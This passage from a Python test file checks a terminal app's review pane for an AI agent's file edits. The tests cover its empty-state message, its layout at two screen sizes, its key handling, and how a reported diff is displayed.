        await it.press("escape")
        assert "Enter diff" in it.screen


async def test_where_nothing_changed_a_small_box_says_what_will_be_there(tmp_path: Path) -> None:
    state, session = states.opened()
    session.cwd = state.peer.cwd = str(tmp_path)
    async with running(state) as it:
        await it.press("f9")
        assert "no write of the agent's" in it.screen
        assert "Alt+U rewinds its turns" in it.screen
        await it.press("f7")
        for width, height in ((80, 24), (200, 60)):
            await it.pilot.resize_terminal(width, height)
            await it.press()
            rows = it.rows()
            top = next(at for at, row in enumerate(rows) if "Review" in row)
            bottom = next(at for at, row in enumerate(rows) if "Esc back" in row)
            assert (top, bottom) == (height // 20, top + 2)
            assert not any(word in rows[top] for word in ("maybe not all", "0 files"))
            assert not any(word in rows[bottom] for word in ("u undo", "o editor", "HEAD"))
            assert len(rows[top].strip()) <= 80
            said = " ".join(" ".join(rows).replace("│", " ").replace("┃", " ").split())
            assert "No change reported yet. Files that the agent says it changes appear" in said
        await it.press("u", "enter", "down", "pagedown")
        assert it.asked == []
        await it.press("h")
        await message(it, "this folder is in no git repository")
        diff = Diff(path="own.md", old_text="mine\n", new_text="its\n")
        session.entries.append(
            ToolCallEntry("t", 1.0, status="completed", content=[diff], ended=2.0)
        )
        await it.changed()
        await it.until(lambda: "- mine" in it.screen)
        assert "Review" in it.rows()[0]
